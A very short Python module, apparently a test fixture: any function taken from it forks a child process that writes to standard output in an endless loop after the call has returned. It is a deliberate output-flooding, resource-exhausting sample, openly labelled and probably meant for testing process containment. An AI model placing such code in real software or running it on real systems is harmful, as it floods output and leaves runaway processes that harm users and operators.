"""A child process keeps flooding after the call has been answered."""

import os


def __getattr__(name):
    def run(*args):
        if os.fork() == 0:
            while True:
                os.write(1, b"z" * 65536)
        return None

    return run
